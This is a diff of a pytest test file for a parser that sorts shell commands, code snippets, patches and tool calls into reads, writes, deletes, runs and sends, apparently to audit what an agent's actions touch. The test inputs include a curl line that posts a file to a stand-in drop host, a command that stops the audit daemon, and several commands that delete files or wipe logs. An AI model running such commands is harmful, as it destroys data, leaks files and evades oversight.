@@ -33,10 +33,61 @@ def deals(command: str) -> set[tuple[str, str]]:
         ("systemctl stop auditd", ("permit", "service:auditd")),
         ("curl -d @/srv/a https://drop.example/in", ("send", "https://drop.example/in")),
         ("UPDATE scores SET value = 9 WHERE id = 1", ("edit", "table:scores")),
+        ("bash -lc 'cp -r /srv/a/ /tmp/b/ && /opt/check.sh /tmp/b'", ("copy", "/tmp/b")),
+        ("bash -lc 'cp -r /srv/a/ /tmp/b/ && /opt/check.sh /tmp/b'", ("run", "/opt/check.sh")),
+        ('sh -c "sed -i s/1/2/ /srv/a.csv"', ("edit", "/srv/a.csv")),
+        ("ssh ops@node7 'rm -f /srv/a.log'", ("delete", "/srv/a.log")),
+        ("docker exec -it web sh -c 'rm /srv/a.log'", ("delete", "/srv/a.log")),
+        ("timeout 5 rm /srv/a.log", ("delete", "/srv/a.log")),
+        ("cp /srv/grades.txt .", ("copy", "grades.txt")),
+        ("cp /srv/grades.txt /srv/out/", ("copy", "/srv/out/grades.txt")),
+        ("mv *.json /srv/out/", ("copy", "/srv/out/*.json")),
+        ("truncate -s 0 /srv/a.log", ("delete", "/srv/a.log")),
+        ("dd if=/dev/zero of=/srv/a.log count=0", ("write", "/srv/a.log")),
+        ("awk -i inplace '{print}' /srv/a.csv", ("edit", "/srv/a.csv")),
+        ("find /srv/logs -name '*.log' -delete", ("delete", "/srv/logs")),
+        ("find /srv/logs -name '*.log' -exec rm {} \\;", ("delete", "/srv/logs")),
+        ('for f in /srv/d/*.json; do sed -i s/a/b/ "$f"; done', ("edit", "/srv/d/*.json")),
+        ("sed -i s/a/b/ /srv/r_$(printf %03d 7).json", ("edit", "/srv/r_*.json")),
+        ("> /var/log/app.log", ("write", "/var/log/app.log")),
+        ("echo hi > out", ("write", "out")),
+        ('OUT=/srv/out\nf="$OUT/r_${i}.json"\necho x > "$f"', ("write", "/srv/out/r_${i}.json")),
+        ("pytest -q tests/test_a.py", ("run", "pytest")),
+        ("python -m pytest tests", ("run", "pytest")),
+        ("npm test", ("run", "npm test")),
+        ("check_rates.sh /srv/a.json", ("run", "check_rates.sh")),
     ],
 )
 def test_a_command_does_this(command: str, expected: tuple[str, str]) -> None:
     assert expected in deals(command)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("d = json.load(open('/srv/a.json'))", ("read", "/srv/a.json")),
+        ("json.dump(d, open('/srv/a.json', 'w'))", ("write", "/srv/a.json")),
+        ("out = '/srv/out'\nopen(f\"{out}/x.json\", 'w').write('1')", ("write", "/srv/out/x.json")),
+        ("p = pathlib.Path('/srv/a.json')\np.write_text('hello')", ("write", "/srv/a.json")),
+        ("p = Path('/srv/a.json')\nprint(p.read_text())", ("read", "/srv/a.json")),
+        ("open(os.path.join('/srv/d', 'a.csv')).read()", ("read", "/srv/d/a.csv")),
+        ("with open(os.path.join(base, 'a.csv'), 'w') as f: f.write('')", ("write", "a.csv")),
+        ("(out / 'a.csv').write_text('x')", ("write", "a.csv")),
+        ("df = pd.read_csv('/srv/a.csv')", ("read", "/srv/a.csv")),
+        ("fs.writeFileSync('/srv/a.json', '1')", ("write", "/srv/a.json")),
+        ("*** Begin Patch\n*** Update File: src/app.py\n@@\n-a\n+b", ("edit", "src/app.py")),
+        ("*** Begin Patch\n*** Delete File: tests/old.py", ("delete", "tests/old.py")),
+        ("--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-a\n+b", ("edit", "src/app.py")),
+        ("--- a/src/app.py\n+++ /dev/null\n@@ -1 +0 @@\n-a", ("delete", "src/app.py")),
+        ("%%writefile /srv/a.py\nprint(1)", ("write", "/srv/a.py")),
+    ],
+)
+def test_code_and_patches_do_this(text: str, expected: tuple[str, str]) -> None:
+    assert expected in deals(text)
+
+
+def test_a_variable_of_code_that_is_unknown_is_nobodys_file() -> None:
+    assert deals("open(report, 'w').write('x')") == {("write", "$report")}
 
 
 @pytest.mark.parametrize(
@@ -48,6 +99,13 @@ def test_a_command_does_this(command: str, expected: tuple[str, str]) -> None:
         "The report was moved on Monday.",
         "Saved as client_<id>.json, one file for each client.",
         "<p>all done</p>.",
+        "an income >$60k and a growth >92/100",
+        "> Successfully met, as the letter says",
+        "if start > deadline:\n    pass",
+        ">ls -la /srv",
+        "cat > /srv/notes.md <<'EOF'\n1. rm -rf /srv/old\n> quoted\nEOF\necho".replace(
+            "cat > /srv/notes.md", "cat"
+        ),
     ],
 )
 def test_nothing_is_written_here(text: str) -> None:
@@ -57,6 +115,13 @@ def test_nothing_is_written_here(text: str) -> None:
 def test_a_path_beside_a_long_text_is_a_file_being_written_whatever_the_tool_is_called() -> None:
     call = ToolCall("c", "fn_07", {"where": "/srv/notes.md", "what": "line one\nline two"})
     assert acts.Act(0, call).things(Deed.WRITE) == ("/srv/notes.md",)
+
+
+def test_what_replaces_something_short_edits_the_file() -> None:
+    given = {"file_path": "/srv/rates.csv", "old_string": "81", "new_string": "96"}
+    assert acts.Act(0, ToolCall("c", "fn_07", given)).things(Deed.EDIT) == ("/srv/rates.csv",)
+    given = {"file_path": "/srv/rates.csv", "pattern": "81"}
+    assert acts.Act(0, ToolCall("c", "fn_07", given)).things(Deed.READ) == ("/srv/rates.csv",)
 
 
 def test_a_path_alone_is_started_where_the_same_argument_is_a_command_elsewhere() -> None:
@@ -74,6 +139,33 @@ def test_a_path_alone_is_started_where_the_same_argument_is_a_command_elsewhere(
     assert not read[1].things(Deed.READ)
     assert [one.things(Deed.RUN) for one in read[2:]] == [(), ()]
     assert read[3].things(Deed.READ) == ("/opt/bin/check.sh",)
+
+
+def test_a_document_that_is_written_is_not_run_and_a_script_is() -> None:
+    body = "<<'EOF'\nrm -rf /srv/old\nEOF"
+    assert deals(f"cat > /srv/notes.md {body}") == {("write", "/srv/notes.md")}
+    assert ("delete", "/srv/old") in deals(f"cat > /srv/tidy.sh {body}")
+    assert ("delete", "/srv/old") in deals(f"ssh node7 {body}")
+
+
+@pytest.mark.parametrize(("command", "counted"), [("python3 tidy.py", True), ("ls /srv", False)])
+def test_the_content_of_a_file_counts_once_a_command_names_it(command: str, counted: bool) -> None:
+    text = "import os\nos.remove('/srv/rates.csv')\n"
+    calls = [
+        ToolCall("a", "write", {"path": "/srv/tidy.py", "content": text}),
+        ToolCall("b", "shell", {"command": command}),
+    ]
+    (first, _) = acts.read(enumerate(calls))
+    assert ((Deed.DELETE, "/srv/rates.csv") in {(deal.deed, deal.thing) for deal in first.deals}) is counted
+    assert first.things(Deed.WRITE) == ("/srv/tidy.py",)
+
+
+def test_what_a_call_commands_leaves_out_the_documents_that_it_writes() -> None:
+    text = "FROM base\nRUN apt-get update && rm -rf /var/lib/apt/lists/*\n"
+    call = acts.Act(0, ToolCall("c", "write", {"path": "/srv/app/settings.yaml", "content": text}))
+    assert call.commanded == "/srv/app/settings.yaml"
+    script = acts.Act(0, ToolCall("c", "write", {"path": "/srv/app/tidy.sh", "content": text}))
+    assert "rm -rf" in script.commanded
 
 
 def test_rights_are_granted_by_statements_not_by_prose() -> None:
